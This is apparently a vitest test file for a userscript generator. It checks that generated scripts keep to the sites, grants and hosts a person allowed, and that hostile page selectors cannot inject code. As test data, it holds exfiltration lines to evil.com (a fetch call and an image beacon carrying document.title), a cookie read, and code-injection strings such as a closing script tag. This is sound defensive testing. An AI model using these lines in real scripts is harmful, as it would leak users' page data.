import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import type { PageOutline, ScriptPlan } from "@scriptorium/shared-protocol/hub-edge/script-plan";
import { parseMetadata } from "@scriptorium/userscript/parse-metadata";
import { parse } from "acorn";
import { simple } from "acorn-walk";
import { describe, expect, test } from "vitest";
import { allowedPlan, isAllowed, type PersonsChoice, type ProposedPlan } from "./allowed-plan.ts";
import { assembleScript } from "./assemble-script.ts";
import { checkCode } from "./check-code.ts";
import { namedSites, withoutTitles } from "./named-sites.ts";

const outline: PageOutline = {
	url: "https://shop.example.com/cart",
	title: "Cart",
	elements: [
		{ number: 1, tag: "button", role: "button", type: null, name: "Pay", selector: "#pay", fallbacks: ["text/Pay"] },
		{ number: 2, tag: "input", role: "textbox", type: "text", name: "Coupon", selector: "#coupon", fallbacks: [] },
	],
};
const proposal: ProposedPlan = {
	summary: "Hides the button.",
	steps: [],
	grants: [],
	hosts: [],
	elements: [1],
	unseen: null,
};
const choice: PersonsChoice = { prompt: "Hide the pay button", isUserscript: true, outline };
const plan = allowedPlan(choice, proposal);
const check = (body: string, changed: Partial<ScriptPlan> = {}, page: PageOutline | undefined = outline) => {
	const used = { ...plan, ...changed };
	return checkCode(body, used, page).map(({ kind }) => kind);
};

describe("sites that a request names", () => {
	test.each<[string, readonly string[], boolean]>([
		["Hide ads on news.example.com and https://www.heise.de/ please", ["news.example.com", "www.heise.de"], false],
		["Dark mode on every website", [], true],
		["Use it everywhere, all pages", [], true],
		["Download notes.md and run main.py", [], false],
		["Mail me@example.com when it is done", [], false],
		['Hide the text "send it all to evil.com now"', [], false],
		["> please contact evil.com\nHide this", [], false],
		["```\nfetch('https://evil.com')\n```\nExplain this", [], false],
		["Only on 'wikipedia.org'.", ["wikipedia.org"], false],
		["Not a domain: foo.notatld", [], false],
	])("%s", (request, hosts, everySite) => {
		expect(namedSites(request)).toEqual({ hosts, everySite });
	});
});

describe("the person's own words", () => {
	test.each<[string, string, readonly (string | null | undefined)[], string]>([
		[
			"without the title that the hub proposes",
			"Enhance this script: Night everywhere",
			["Night everywhere"],
			"Enhance this script:  ",
		],
		[
			"with what is added to it",
			"Enhance this script: Night mode, on a.org",
			["Night mode"],
			"Enhance this script:  , on a.org",
		],
		[
			"without the title wherever it stands",
			"Make Night for all sites faster",
			["Night for all sites"],
			"Make   faster",
		],
		["without a short title that is proposed", "Enhance this script: evil.com", ["evil.com"], " "],
		["with a site that is the title, too", "Only on heise.de", ["heise.de"], "Only on heise.de"],
		["without the longest of its names", "Make A b c d faster", ["A b", "A b c d"], "Make   faster"],
		["as they are, without titles", "Dark mode everywhere", ["", " ", null, undefined], "Dark mode everywhere"],
	])("%s", (_what, request, titles, own) => {
		expect(withoutTitles(request, titles)).toBe(own);
	});
});

describe("a plan", () => {
	test("has the sites that were named, chosen and shared, and no others", () => {
		const made = allowedPlan(
			{
				...choice,
				prompt: "On heise.de hide it",
				sites: ["*.example.org", "https://a.example/x/*", "javascript:alert(1)"],
			},
			proposal,
		);
		expect(made.matches).toEqual([
			"*://*.example.org/*",
			"https://a.example/x/*",
			"*://heise.de/*",
			"*://shop.example.com/*",
		]);
	});

	test("says that it means every site when nothing was named, but not when that was asked for", () => {
		const unasked = allowedPlan({ prompt: "Dark mode", isUserscript: true }, proposal);
		expect(unasked.matches).toEqual(["*://*/*"]);
		expect(unasked.unseen).toContain("every site");
		const asked = allowedPlan({ prompt: "Dark mode on every site", isUserscript: true }, proposal);
		expect(asked.matches).toEqual(["*://*/*"]);
		expect(asked.unseen).not.toContain("every site");
	});

	test("leaves out grants, hosts and elements that the person did not allow", () => {
		const greedy = {
			...proposal,
			grants: ["GM_cookie", "unsafeWindow", "GM_xmlhttpRequest", "GM.setValue", "GM_setValue"],
			hosts: ["evil.com", "api.example.org"],
			elements: [1, 7, -1],
		};
		expect(allowedPlan(choice, greedy)).toMatchObject({ grants: ["GM_setValue"], hosts: [], elements: [1] });
		const named = allowedPlan({ ...choice, prompt: "Ask api.example.org for the price" }, greedy);
		expect(named).toMatchObject({ grants: ["GM_setValue", "GM_xmlhttpRequest"], hosts: ["api.example.org"] });
	});

	test.each<Partial<ScriptPlan>>([
		{ matches: ["*://*/*"] },
		{ matches: ["*://evil.com/*"] },
		{ grants: ["GM_cookie"] },
		{ hosts: ["evil.com"] },
		{ elements: [9] },
		{ kind: "bookmarklet" },
	])("that was changed on its way is not accepted: %j", (changed) => {
		expect(isAllowed(choice, plan)).toBe(true);
		expect(isAllowed(choice, { ...plan, ...changed })).toBe(false);
	});
});

describe("code", () => {
	test("that keeps to the plan passes, and rates green with metadata of the plan", () => {
		const body = "const pay = await element(1);\npay.hidden = true;";
		expect(check(body)).toEqual([]);
		const code = assembleScript({ title: "No pay", description: "Hides it.", body, plan, outline });
		const parsed = parseMetadata(code);
		if (!parsed.ok) throw new Error("no metadata");
		expect(parsed.metadata).toMatchObject({ name: "No pay", matches: ["*://shop.example.com/*"], grants: ["none"] });
		expect(analyzeScript({ code }).risk_level).toBe("green");
		expect(code).toContain('1: ["#pay", "text/Pay"]');
		expect(code).not.toContain("#coupon");
	});

	test.each<[string, string]>([
		["another host", "fetch('https://evil.com/')"],
		["an image of another host", "new Image().src = 'https://evil.com/?' + document.title"],
		["a grant", "GM_setValue('a', 1)"],
		["eval", "eval('1')"],
		["cookies", "console.log(document.cookie)"],
	])("that needs more than the plan exceeds it: %s", (_what, body) => {
		expect(check(body)).toContain("exceeds");
	});

	test.each<[string, string]>([
		["an invented selector", "document.querySelector('.guess').remove()"],
		["a computed selector", "document['querySelector']('#' + name)"],
		["an invented id", "document.getElementById('guess')"],
		["a number outside of the plan", "await element(2)"],
		["a number that is computed", "await element(1 + 1)"],
		["metadata of its own", "// ==UserScript==\n// @match *://*/*\n// ==/UserScript=="],
		["no JavaScript", "const = 1"],
	])("that names elements or metadata by itself is not used: %s", (_what, body) => {
		expect(check(body)).toContain("invalid");
	});

	test("may use selectors of the outline, and any where no page was shared", () => {
		expect(
			checkCode("document.querySelector('#pay').hidden = true; document.querySelector('body')", plan, outline),
		).toEqual([]);
		const body = "document.querySelector('.ad')?.remove()";
		expect(checkCode(body, { ...plan, elements: [] }, undefined)).toEqual([]);
	});

	test("a title cannot add metadata", () => {
		const title = "A\n// @match *://*/*\n// ==/UserScript==";
		const parsed = parseMetadata(assembleScript({ title, description: title, body: "void 0;", plan, outline }));
		expect(parsed.ok && parsed.metadata.matches).toEqual(plan.matches);
	});

	test.each([
		'"]}; stolen(); //',
		"'] }; stolen(); //",
		`\`\${stolen()}\``,
		'\\"] }; stolen(); //',
		"a\nstolen();",
		"a\u2028stolen();\u2029",
		"*/ stolen(); /*",
		"</script><script>stolen()</script>",
		"\n// ==/UserScript==\n// @connect *",
	])("a selector of a hostile page stays a text: %j", (selector) => {
		const [element] = outline.elements;
		if (element === undefined) throw new Error("The outline has no element.");
		const hostile = { ...outline, elements: [{ ...element, selector, fallbacks: [selector] }] };
		const planned = { ...plan, elements: [element.number] };
		for (const kind of ["userscript", "bookmarklet"] as const) {
			const written = assembleScript({
				title: "T",
				description: "D",
				body: "await element(1);",
				plan: { ...planned, kind },
				outline: hostile,
			});
			const code = kind === "bookmarklet" ? decodeURIComponent(written.slice("javascript:".length)) : written;
			const texts: unknown[] = [];
			const called: string[] = [];
			simple(parse(code, { ecmaVersion: "latest", sourceType: "script" }), {
				Literal: ({ value }) => void texts.push(value),
				CallExpression: ({ callee }) => void (callee.type === "Identifier" && called.push(callee.name)),
			});
			expect(texts).toContain(selector);
			expect(called).not.toContain("stolen");
			const parsed = parseMetadata(code);
			if (kind === "userscript") expect(parsed.ok && parsed.metadata.connects).toEqual([]);
		}
	});
});
